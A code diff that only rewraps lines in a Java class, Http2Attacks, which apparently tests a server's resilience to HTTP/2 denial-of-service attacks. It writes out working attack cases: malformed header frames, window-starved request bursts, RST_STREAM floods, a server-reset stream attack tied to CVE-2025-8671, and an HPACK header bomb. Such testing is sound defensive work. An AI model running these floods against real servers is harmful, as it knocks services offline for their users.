@@ -51,7 +51,9 @@ final class Http2Attacks {
             frame(DATA, 0, 0, new byte[1]),
             frame(DATA, 0, 1, new byte[1]),
             frame(HEADERS, END_HEADERS, 2, REQUEST),
-            frame(HEADERS, END_HEADERS, 1, new byte[] {(byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 127}),
+            frame(HEADERS, END_HEADERS, 1, new byte[] {
+                (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 127
+            }),
             frame(HEADERS, END_HEADERS, 1, literals("UPPER", "case")),
             frame(HEADERS, END_HEADERS | END_STREAM, 1, literals(":method", "GET", ":method", "GET", ":path", "/")),
             frame(HEADERS, END_HEADERS | END_STREAM, 1, literals(":method", "GET", ":scheme", "https", ":path", "")),
@@ -89,7 +91,13 @@ final class Http2Attacks {
                 Attack.of("responses that no window lets out", 2, 4, sockets -> {
                     Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 0);
                     for (int i = 0; i < 60; i++) {
-                        send(socket, frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request("GET", "/uPlot.iife.min.js")));
+                        send(
+                                socket,
+                                frame(
+                                        HEADERS,
+                                        END_HEADERS | END_STREAM,
+                                        2 * i + 1,
+                                        request("GET", "/uPlot.iife.min.js")));
                     }
                     Thread.sleep(3000);
                 }),
@@ -100,7 +108,8 @@ final class Http2Attacks {
                         send(socket, frame(RST_STREAM, 0, id, new byte[] {0, 0, 0, 8}));
                     }
                 }),
-                // The server resets these streams, and no limit of resets that are received would see them (CVE-2025-8671).
+                // The server resets these streams, and no limit of resets that are received would see them
+                // (CVE-2025-8671).
                 Attack.of("streams that make the server reset them", 1, 3, sockets -> {
                     Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                     for (int id = 1; ; id += 2) {
@@ -127,7 +136,9 @@ final class Http2Attacks {
                 Attack.of("a head that is a bomb", 1, 3, sockets -> {
                     Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                     byte[] bomb = join(
-                            REQUEST, field(INDEXED_LITERAL, "x", "v".repeat(4000)), repeated(new byte[] {(byte) 0xBE}, 4000));
+                            REQUEST,
+                            field(INDEXED_LITERAL, "x", "v".repeat(4000)),
+                            repeated(new byte[] {(byte) 0xBE}, 4000));
                     for (int id = 1; ; id += 2) {
                         send(socket, frame(HEADERS, END_HEADERS | END_STREAM, id, bomb));
                     }
@@ -155,8 +166,11 @@ final class Http2Attacks {
     }
 
     private static Attack floods(String name, byte[] frame) {
-        return Attack.of("HTTP/2 " + name, 0.7, 3, sockets ->
-                flood(open(sockets, INITIAL_WINDOW_SIZE, 65_535), repeated(frame, 500)));
+        return Attack.of(
+                "HTTP/2 " + name,
+                0.7,
+                3,
+                sockets -> flood(open(sockets, INITIAL_WINDOW_SIZE, 65_535), repeated(frame, 500)));
     }
 
     private static Attack invalid() {
